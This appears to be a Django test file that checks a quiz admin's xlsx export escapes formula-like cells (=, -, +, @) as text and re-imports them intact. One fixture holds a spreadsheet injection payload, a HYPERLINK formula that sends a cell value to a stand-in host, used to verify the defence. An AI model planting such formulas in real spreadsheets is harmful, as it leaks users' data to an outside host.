"""A question bank exported from the admin holds text, never formulas: a stem typed as `=1+1`
shows as `=1+1` (with the apostrophe that keeps a spreadsheet from running it), and imported
again it is the same question."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from quizzes.models import Question, QuestionBank

from .factories import make_bank, make_question

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://example.invalid/?x="&B5,"点击查看")'


@pytest.fixture
def risky_bank(org_tree):
    bank = make_bank("公式题库", questions=[], organization=org_tree["committee"])
    single = make_question(
        bank, "=1+1", "single", [("-5", False), (LINK, True), ("正常选项", False)]
    )
    single.explanation = "@SUM(A1:A2)"
    single.save()
    make_question(
        bank, "+86 是哪个国家的区号？", "fill_blank", accepted="=中国\n中国", tags=["+加分"]
    )
    return bank


def _export(client, bank):
    response = client.get(f"/admin/quizzes/banks/{bank.pk}/export.xlsx")
    assert response.status_code == 200
    return response.content


def test_the_exported_cells_are_text_showing_what_was_typed(client, people, risky_bank):
    client.force_login(people["trainer"])

    sheet = load_workbook(io.BytesIO(_export(client, risky_bank))).active
    cells = {cell.coordinate: cell for row in sheet.iter_rows(min_row=2) for cell in row}
    by_value = {cell.value: cell for cell in cells.values() if isinstance(cell.value, str)}

    assert not [cell.coordinate for cell in cells.values() if cell.data_type == "f"]
    for typed in ("=1+1", "-5", LINK, "@SUM(A1:A2)", "+86 是哪个国家的区号？", "+加分"):
        cell = by_value["'" + typed]
        assert (cell.data_type, cell.value) == ("s", "'" + typed)
    assert by_value["'=中国|中国"].data_type == "s"
    assert by_value["正常选项"].value == "正常选项"  # ordinary text untouched


def test_an_exported_bank_imports_again_as_the_same_questions(client, people, risky_bank):
    client.force_login(people["trainer"])
    exported = _export(client, risky_bank)

    response = client.post(
        "/admin/quizzes/import/",
        {
            "new_bank": "公式题库副本",
            "organization": risky_bank.organization_id,
            "file": SimpleUploadedFile("bank.xlsx", exported),
            "apply": "1",
        },
    )

    assert "导入完成" in response.content.decode()
    copy = QuestionBank.objects.get(name="公式题库副本")
    single = copy.questions.get(type=Question.Type.SINGLE)
    assert single.stem == "=1+1"
    assert single.explanation == "@SUM(A1:A2)"
    assert [(o.text, o.is_correct) for o in single.options.order_by("sort_order")] == [
        ("-5", False),
        (LINK, True),
        ("正常选项", False),
    ]
    blank = copy.questions.get(type=Question.Type.FILL_BLANK)
    assert blank.stem == "+86 是哪个国家的区号？"
    assert blank.accepted_answer_list() == ["=中国", "中国"]
    assert set(blank.tags.names()) == {"+加分"}


def test_a_bank_named_with_a_slash_exports(client, people, org_tree):
    bank = make_bank("党史/党章：[2024]", organization=org_tree["committee"])
    client.force_login(people["trainer"])

    workbook = load_workbook(io.BytesIO(_export(client, bank)))

    assert workbook.active.title == "党史_党章：_2024_"  # Excel allows none of / [ ]
    assert workbook.active.max_row == 1 + bank.questions.count()
